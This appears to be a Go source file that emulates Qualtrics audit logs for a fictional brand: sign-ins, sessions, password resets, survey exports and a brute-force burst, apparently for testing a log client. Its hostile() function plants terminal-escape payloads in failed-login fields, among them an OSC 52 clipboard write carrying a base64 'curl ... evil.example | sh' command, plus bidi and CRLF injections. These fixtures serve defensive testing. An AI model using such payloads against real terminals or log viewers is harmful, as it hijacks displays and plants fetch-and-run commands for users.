package qualtricsemu

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"time"

	"github.com/trail-dev/trail/sources/emulate"
)

// generator makes a brand's activity over the Span before now: five people
// signing in from their usual places, the odd failed login with its reason,
// sessions opening and closing, password resets, survey exports (a type the
// client does not know), a burst of failed logins from one unfamiliar
// address, and failed logins whose fields carry terminal escapes, as
// attacker-controlled fields do.
type generator struct {
	r     *rand.Rand
	now   time.Time
	span  time.Duration
	want  func(typ string) bool
	users []persona
	out   []Entry
}

// persona is a user of the brand and where they usually work from.
type persona struct {
	name, userID string
	ip           string
	loc          geo
	plat         platformInfo
	auth         authInfo
}

// The brand the emulator plays. Addresses come from the documentation
// ranges: 198.51.100.0/24 and 203.0.113.0/24 for staff, 192.0.2.0/24 for
// the unfamiliar.
const (
	brandID    = "northwindresearch"
	datacenter = "IAD1"
	attackerIP = "192.0.2.77"
)

func newGenerator(seed int64, now time.Time, span time.Duration, types []string) *generator {
	sso, saml := "SSO", "SAML2"
	provo := geo{"US", "UT", "Provo", "84601", 40.2338, -111.6585, 770, 801, 770}
	hoboken := geo{"US", "NJ", "Hoboken", "07030", 40.742401123046875, -74.03250122070312, 501, 201, 501}
	dublin := geo{"IE", "L", "Dublin", "D02", 53.3498, -6.2603, 0, 0, 0}
	sydney := geo{"AU", "NSW", "Sydney", "2000", -33.8688, 151.2093, 0, 0, 0}
	chrome := platformInfo{"Chrome", "126.0.6478.127", "OS X", "14.5", "Mac"}
	firefox := platformInfo{"Firefox", "127.0", "Windows", "10", "Other"}
	safari := platformInfo{"Safari", "17.5", "OS X", "14.5", "Mac"}
	edge := platformInfo{"Edge", "126.0.2592.87", "Windows", "11", "Other"}
	return &generator{
		r:    rand.New(rand.NewPCG(uint64(seed), 0x7175616c74)),
		now:  now.UTC().Truncate(time.Millisecond),
		span: span,
		want: func(typ string) bool { return len(types) == 0 || slices.Contains(types, typ) },
		users: []persona{
			{"priya.raman@northwind.example", "UR_3fKq9LmZ2xVb7Tp", "198.51.100.23", provo, chrome, authInfo{Method: "BASIC"}},
			{"marcus.webb@northwind.example", "UR_8aWn4RcJ6yHd1Qs", "198.51.100.41", hoboken, firefox, authInfo{Method: sso, MethodVersion: &saml}},
			{"sofia.lindqvist@northwind.example", "UR_5tGm2PzE9kLw3Nv", "203.0.113.58", dublin, safari, authInfo{Method: sso, MethodVersion: &saml}},
			{"kenji.sato@northwind.example", "UR_1bXr7SdF4hJq8Mc", "203.0.113.90", sydney, edge, authInfo{Method: "BASIC"}},
			{"aisha.okafor@northwind.example", "UR_9eYc6VuA2gKt5Ro", "198.51.100.23", provo, chrome, authInfo{Method: "BASIC"}},
		},
	}
}

// generateEntries returns about n entries, newest first, the same for the
// same seed, now, span and types. Activities that make several entries (a
// login opens a session) may overshoot; the oldest are dropped to make n.
func generateEntries(n int, seed int64, now time.Time, span time.Duration, types []string) []Entry {
	if n <= 0 {
		return nil
	}
	g := newGenerator(seed, now, span, types)
	if n >= 100 {
		g.burst(min(30, n/25))
	}
	if n >= 40 {
		g.hostile()
	}
	type kind struct {
		weight int
		types  []string
		fill   func(*generator, time.Time)
	}
	kinds := []kind{
		{30, []string{"logins", "session_creations", "session_terminations"}, (*generator).login},
		{5, []string{"logins"}, (*generator).failedLogin},
		{2, []string{"password_resets"}, (*generator).passwordReset},
		{4, []string{"response_exports"}, (*generator).export},
	}
	// A kind of no wanted type weighs nothing.
	weigh := func(k kind) int {
		if slices.ContainsFunc(k.types, g.want) {
			return k.weight
		}
		return 0
	}
	total := 0
	for _, k := range kinds {
		total += weigh(k)
	}
	for total > 0 && len(g.out) < n {
		k := emulate.Pick(g.r, kinds, weigh)
		k.fill(g, g.randomTime())
	}
	sortEntries(g.out)
	return g.out[:min(n, len(g.out))]
}

// add records an entry of type typ at t, if that type is wanted.
func (g *generator) add(typ string, t time.Time, source string, d any) {
	if !g.want(typ) || !t.Before(g.now) {
		return
	}
	g.out = append(g.out, Entry{ID: g.uuid(), Type: typ, Timestamp: t.Truncate(time.Millisecond),
		Datacenter: datacenter, Source: source, Descriptor: raw(d)})
}

func (g *generator) uuid() string {
	a, b := g.r.Uint64(), g.r.Uint64()
	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", a>>32, a>>16&0xffff, a&0xfff, 0x8000|b>>48&0x3fff, b&0xffffffffffff)
}

// randomTime picks a moment in the span, mostly in office hours (UTC).
func (g *generator) randomTime() time.Time {
	days := max(int(g.span/(24*time.Hour)), 1)
	for range 8 {
		hour := g.r.IntN(24)
		if g.r.IntN(10) < 8 {
			hour = 7 + g.r.IntN(11)
		}
		t := g.now.Truncate(24*time.Hour).AddDate(0, 0, -g.r.IntN(days)).
			Add(time.Duration(hour)*time.Hour + time.Duration(g.r.IntN(3600_000))*time.Millisecond)
		if t.Before(g.now) && !t.Before(g.now.Add(-g.span)) {
			return t
		}
	}
	return g.now.Add(-time.Duration(1+g.r.Int64N(int64(g.span/time.Millisecond)-1)) * time.Millisecond)
}

// loginAt builds a logins descriptor of p at the brand's login page.
func (g *generator) loginAt(p persona, ok bool, reason string) loginDescriptor {
	d := loginDescriptor{Username: p.name, BrandID: brandID, IsSuccessful: ok, Product: "ControlPanel",
		URL:       "https://" + brandID + ".iad1.qualtrics.com/login?path=%2FControlPanel%2F&product=ControlPanel",
		IPAddress: p.ip, Location: p.loc, Auth: p.auth, Platform: p.plat}
	if p.userID != "" {
		d.UserID = &p.userID
	}
	if reason != "" {
		d.FailureReason = &reason
	}
	return d
}

func (g *generator) login(t time.Time) {
	p := g.users[g.r.IntN(len(g.users))]
	if g.r.IntN(30) == 0 {
		p.ip, p.loc = "2001:db8:4f2a::17", geo{CountryCode: "SG", City: "Singapore"} // travelling
	}
	sid := fmt.Sprintf("s-%016x", g.r.Uint64())
	d := g.loginAt(p, true, "")
	d.SessionID = &sid
	if p.auth.Method == "BASIC" && g.r.IntN(3) == 0 {
		totp := "TOTP"
		d.Auth.SecondFactor = &totp
	}
	g.add("logins", t, fmt.Sprintf("login%d-app.g1-iad.qops.net", 1+g.r.IntN(6)), d)
	session := sessionDescriptor{UserID: p.userID, BrandID: brandID, SessionID: sid, IPAddress: p.ip, Location: p.loc}
	start := t.Add(time.Duration(200+g.r.IntN(1500)) * time.Millisecond)
	g.add("session_creations", start, "session-app.g1-iad.qops.net", session)
	end := start.Add(time.Duration(10+g.r.IntN(480)) * time.Minute)
	session.TerminationTimestamp = millis(end)
	g.add("session_terminations", end, "session-app.g1-iad.qops.net", session)
}

func (g *generator) failedLogin(t time.Time) {
	p := g.users[g.r.IntN(len(g.users))]
	reasons := []string{"Invalid username or password", "Invalid username or password", "Account locked", "Password expired", "SSO login required for this user"}
	g.add("logins", t, fmt.Sprintf("login%d-app.g1-iad.qops.net", 1+g.r.IntN(6)), g.loginAt(p, false, reasons[g.r.IntN(len(reasons))]))
}

func (g *generator) passwordReset(t time.Time) {
	p := g.users[g.r.IntN(len(g.users))]
	rules := validationRules{90, 12, 1, 1, 1, 1, 5}
	d := resetDescriptor{UserID: p.userID, BrandID: brandID, ValidationRules: rules, Reason: "Forgot password", IPAddress: p.ip, Location: p.loc}
	if g.r.IntN(2) == 0 {
		admin := g.users[4]
		sid := fmt.Sprintf("s-%016x", g.r.Uint64())
		d.AgentUserID, d.AgentSessionID, d.Reason = &admin.userID, &sid, "Reset by a brand administrator"
		d.IPAddress, d.Location = admin.ip, admin.loc
	}
	g.add("password_resets", t, "account-app.g1-iad.qops.net", d)
}

func (g *generator) export(t time.Time) {
	p := g.users[g.r.IntN(len(g.users))]
	surveys := []string{"Customer Satisfaction Q4", "Employee Pulse (November)", "Product Feedback – Beta", "NPS 2026"}
	formats := []string{"csv", "tsv", "spss", "json"}
	i := g.r.IntN(len(surveys))
	g.add("response_exports", t, "export-app.g1-iad.qops.net", exportDescriptor{UserID: p.userID, BrandID: brandID,
		SurveyID: fmt.Sprintf("SV_%015x", g.r.Uint64()>>4), SurveyName: surveys[i], Format: formats[g.r.IntN(len(formats))],
		RecordCount: 50 + g.r.IntN(20000), IPAddress: p.ip})
}

// burstStart is when the failed-login burst begins: 02:47 UTC halfway back.
func (g *generator) burstStart() time.Time {
	return g.now.Add(-g.span / 2).Truncate(24 * time.Hour).Add(2*time.Hour + 47*time.Minute + 13*time.Second)
}

// burst is a run of failed logins from one unfamiliar address, a few seconds
// apart, trying common names: what an analyst should spot.
func (g *generator) burst(n int) {
	names := []string{"admin", "administrator", "root", "priya.raman@northwind.example", "admin@northwind.example", "test", "qualtrics", "support", "it@northwind.example"}
	amsterdam := geo{CountryCode: "NL", Region: "NH", City: "Amsterdam", PostalCode: "1012", Latitude: 52.3676, Longitude: 4.9041}
	bot := platformInfo{"Python Requests", "2.31", "Linux", "", "Other"}
	t := g.burstStart()
	for i := range n {
		t = t.Add(time.Duration(2000+g.r.IntN(8000)) * time.Millisecond)
		p := persona{name: names[i%len(names)], ip: attackerIP, loc: amsterdam, plat: bot, auth: authInfo{Method: "BASIC"}}
		if p.name == g.users[0].name {
			p.userID = g.users[0].userID
		}
		g.add("logins", t, "login2-app.g1-iad.qops.net", g.loginAt(p, false, "Invalid username or password"))
	}
}

// hostile adds failed logins whose user name, platform, location or failure
// reason would take over a terminal that printed them: clear screen, window
// title, clipboard (OSC 52), C1 controls, a bidi override, a faked line.
func (g *generator) hostile() {
	payload := base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
	bot := platformInfo{"Firefox", "102.0", "Linux", "", "Other"}
	amsterdam := geo{CountryCode: "NL", Region: "NH", City: "Amsterdam"}
	cases := []struct{ user, agent, city, reason string }{
		{"\x1b[2J\x1b[Hadmin", "Firefox", "Amsterdam", "Invalid username or password"},
		{"root\x1b]0;Qualtrics\x07", "Firefox", "Amsterdam", "Invalid username or password"},
		{"guest", "Mozilla/5.0 \x1b]52;c;" + payload + "\x07", "Amsterdam", "Invalid username or password"},
		{"admin\u009b31mROOT\u009b0m", "Firefox", "Amster\u202emad", "Account locked\r\nX-Injected: 1"},
		{"operator\x1b[1A\x1b[2KLogged in", "Firefox", "Amsterdam", "Invalid username or password"},
	}
	t := g.burstStart().Add(20 * time.Minute)
	for i, c := range cases {
		plat, loc := bot, amsterdam
		plat.UserAgent, loc.City = c.agent, c.city
		p := persona{name: c.user, ip: attackerIP, loc: loc, plat: plat, auth: authInfo{Method: "BASIC"}}
		g.add("logins", t.Add(time.Duration(i*(20+g.r.IntN(40)))*time.Second), "login2-app.g1-iad.qops.net", g.loginAt(p, false, c.reason))
	}
}
